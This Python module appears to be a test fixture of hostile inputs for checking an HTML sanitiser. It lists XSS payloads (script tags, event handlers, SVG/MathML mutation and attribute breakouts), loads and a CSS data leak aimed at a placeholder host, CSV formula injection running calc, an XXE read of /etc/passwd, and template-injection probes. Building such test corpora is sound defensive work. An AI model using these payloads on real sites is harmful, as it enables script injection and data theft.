"""Markup that would run, load or lead somewhere: ours, and the shared ones where they lie.

What runs calls `pwned`, which a browser of ours listens to; what loads asks the host `HOST`, which
nobody has.
"""

from __future__ import annotations

from pathlib import Path

HOST = "vectors.invalid"
_RUN = "pwned(1)"
_AT = f"http://{HOST}"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<script src={_AT}/a.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<SCRIPT\x0c>{_RUN}</SCRIPT\n>",
    f"\u2028<script>{_RUN}</script>\u2029",
    f"<script type=module>import '{_AT}/m.js'</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
    f"&#60script&#62{_RUN}&#60/script&#62",
)
HANDLERS = (
    f"--><img src=x onerror={_RUN}>",
    f"<img src=x onerror={_RUN} ",
    f"<img/src=x/onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<body onload={_RUN}>",
    f"<p onpointerrawupdate={_RUN} onmouseover={_RUN} tabindex=1 onfocus={_RUN}>x</p>",
    f"<p onanimationstart={_RUN} class=card>x</p>",
    f"<p oncontentvisibilityautostatechange={_RUN}>x</p>",
    f"<img src={_AT}/p.png srcset='{_AT}/s.png 2x' longdesc={_AT}/l>",
)
FOREIGN = (
    f'"><svg onload={_RUN}>',
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={_RUN}>#x'></svg>",
    f"<svg></p><style><a title='</style><img src=x onerror={_RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    f"<math><a xlink:href='javascript:{_RUN}'>x</a></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><title><noscript><![CDATA[</noscript><img src=x onerror={_RUN}>]]></title></svg>",
)
BREAKOUTS = (
    f"' onmouseover='{_RUN}' onfocus='{_RUN}' autofocus='",
    f'" onmouseover="{_RUN}" onfocus="{_RUN}" autofocus="',
    f"` onmouseover=`{_RUN}`",
    f"x onfocus={_RUN} autofocus tabindex=0",
    f"</textarea><img src=x onerror={_RUN}>",
    f"</option></select><img src=x onerror={_RUN}>",
    f"</style><img src=x onerror={_RUN}>",
    f"</template><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={_RUN}>'>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<!-- --!><img src=x onerror={_RUN}>",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?php <img src=x onerror={_RUN}> ?>",
    f"</script><img src=x onerror={_RUN}>",
    f"{{{{constructor.constructor('{_RUN}')()}}}} {{% raw %}} ${{{_RUN}}}",
)
LEADING = (
    f"<a href=' javascript:{_RUN}'>x</a>",
    f"<a href='java\tscript:{_RUN}'>x</a>",
    f"<a href='java&#10;script&colon;{_RUN}'>x</a>",
    f"<a href='&#1;javascript:{_RUN}'>x</a>",
    f"<a href='JaVaScRiPt&#0000058{_RUN}'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==>x</a>",
    f"<a href='vbscript:{_RUN}'>x</a>",
    f"<a href='blob:{_AT}/x' ping={_AT}/ping>x</a>",
    f"<a href='//{HOST}/\\..' style='position:fixed;inset:0'>x</a>",
    f"<meta http-equiv=refresh content='0;url={_AT}/refresh'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<base href='{_AT}/base/'>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    f"<form action={_AT}/take><button formaction='javascript:{_RUN}' formmethod=post>x</button></form>",
    f"<button form=words formaction={_AT}/take>x</button>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    f"<embed src={_AT}/e.swf>",
    f"<link rel=stylesheet href={_AT}/s.css><link rel=preload as=image href={_AT}/l.png>",
)
STYLES = (
    f"<style>@import '{_AT}/i.css'; body{{background:url({_AT}/b.png)}}</style>",
    f"<p style='background:url({_AT}/c.png)'>x</p>",
    f'<p style="behavior:url({_AT}/x.htc);-moz-binding:url({_AT}/x.xml#x)">x</p>',
    f"<table background={_AT}/t.png><tr><td>x</td></tr></table>",
    f"<style>input[value^=a]{{background:url({_AT}/leak)}}",
)
CLOBBERING = (  # names that a script would look up
    "<form name=forms id=documentElement><input name=dataset><input name=elements></form>",
    "<img name=querySelectorAll><img name=addEventListener><img id=pwned_element name=body>",
    "<a id=trustedTypes></a><a id=trustedTypes name=createPolicy href=cid:x></a>",
    "<input name=csrf value=forged form=words><p class=difference data-key=1 data-step=1 id=words>x</p>",
)
QUIET = (  # nothing runs, and yet
    "\u202egnp.exe\u202c \u2066\u200f\u061c",
    '=HYPERLINK("http://vectors.invalid/csv";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\u00a0+\u200b\ufeff\u00ad\ufffe\ud7ff",
    "\uff1cscript\uff1epwned(1)\uff1c/script\uff1e",
    "\u2039script\u203apwned(1)",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "{% include '/etc/passwd' %} %s %n {0.__class__}",
)
ADDRESSES = (
    f"javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f" JaVaScRiPt:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f'https://{HOST}/"><img src=x onerror={_RUN}>',
    f"https://{HOST}/' onmouseover='{_RUN}",
    f"https://user:pass@{HOST}/?q=<svg onload={_RUN}>#</script><script>{_RUN}</script>",
    f"//{HOST}/x",
    f"https:/\\{HOST}/x",
    f"{_AT}/\u202egnp.exe",
)
OWN = [
    *SCRIPTS,
    *HANDLERS,
    *FOREIGN,
    *BREAKOUTS,
    *LEADING,
    *STYLES,
    *CLOBBERING,
    *QUIET,
    *ADDRESSES,
]
SHARED = Path(__file__).parents[3] / "shared" / "hostile" / "xss_vectors.txt"


def shared(worth: int) -> list[str]:
    """About so many of the shared ones, spread over all; none where they do not lie."""
    if not SHARED.is_file():
        return []
    lines = [line for line in SHARED.read_text(errors="replace").splitlines() if not line.startswith("#!")]
    return lines[:: max(len(lines) // worth, 1)]
